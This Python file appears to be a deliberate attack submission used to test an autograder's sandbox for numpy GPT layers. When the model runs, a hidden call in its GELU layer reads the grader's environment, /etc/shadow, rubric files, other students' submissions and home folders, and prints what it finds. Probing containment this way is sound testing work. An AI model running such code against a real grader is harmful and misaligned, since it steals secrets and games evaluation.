"""Reads what it should not: the parent's environment and command line, /etc/passwd and
/etc/shadow, the rubric, the other submissions in the folders on the parent's command line, the
home folders; prints what it got. Contained: none of it is in the sandbox (bwrap) or readable by
its uid (user; world-readable system files such as /etc/passwd stay readable there)."""

import glob
import os

import numpy as np

from npgpt import Module, Parameter


def grader_paths():
    """Absolute paths on the command lines of the parent and of this process (and their folders)."""
    found = set()
    for src in (f"/proc/{os.getppid()}/cmdline", "/proc/self/cmdline"):
        try:
            with open(src, "rb") as f:
                args = f.read().decode("utf-8", "replace").split("\0")
        except OSError:
            continue
        for a in args:
            while a.startswith("/") and len(a) > 1:
                found.add(a)
                a = os.path.dirname(a)
    return found


def grab(path):
    try:
        with open(path, "rb") as f:
            return f.read(4096).decode("utf-8", "replace").replace("\0", " ")
    except OSError as e:
        return f"<{type(e).__name__}>"


def attack():
    ppid = os.getppid()
    for path in (f"/proc/{ppid}/environ", "/proc/1/environ", "/etc/passwd", "/etc/shadow"):
        print("ATTACK", path, "->", grab(path)[:400])
    others = glob.glob("/tmp/npgpt-jail-*/sub/*.py") + glob.glob("/var/tmp/npgpt-jail-*/sub/*.py")
    for p in sorted(others)[:50]:  # copies of submissions graded at the same time
        print("ATTACK", p, "->", grab(p)[:200])
    for d in sorted(p for p in grader_paths() if os.path.isdir(p)):
        for p in sorted(glob.glob(os.path.join(d, "*.py")) + glob.glob(os.path.join(d, "*.json")))[:50]:
            print("ATTACK", p, "->", grab(p)[:200])
    for home in ["/root"] + sorted(glob.glob("/home/*")):
        try:
            print("ATTACK", home, "->", sorted(os.listdir(home))[:20])
        except OSError as e:
            print("ATTACK", home, "->", type(e).__name__)


_done = []


def attack_once():
    if not _done:
        _done.append(1)
        attack()


class LayerNorm(Module):
    """Correct, and graded in a child of its own: it must keep its 10 points."""

    def __init__(self, emb_dim, eps=1e-5):
        super().__init__()
        self.eps = eps
        self.scale = Parameter(np.ones(emb_dim))
        self.shift = Parameter(np.zeros(emb_dim))

    def forward(self, x):
        mean = x.mean(-1, keepdims=True)
        var = ((x - mean) ** 2).mean(-1, keepdims=True)
        self.rstd = 1.0 / np.sqrt(var + self.eps)
        self.xhat = (x - mean) * self.rstd
        return self.xhat * self.scale.data + self.shift.data

    def backward(self, dout):
        C = dout.shape[-1]
        self.scale.grad += (dout * self.xhat).reshape(-1, C).sum(0)
        self.shift.grad += dout.reshape(-1, C).sum(0)
        g = dout * self.scale.data
        return self.rstd * (
            g - g.mean(-1, keepdims=True) - self.xhat * (g * self.xhat).mean(-1, keepdims=True)
        )


class GELU(Module):
    """Wrong on purpose (all zeros): full marks would mean the attack worked."""

    def forward(self, x):
        attack_once()
        return np.zeros_like(x)

    def backward(self, dout):
        return np.zeros_like(dout)
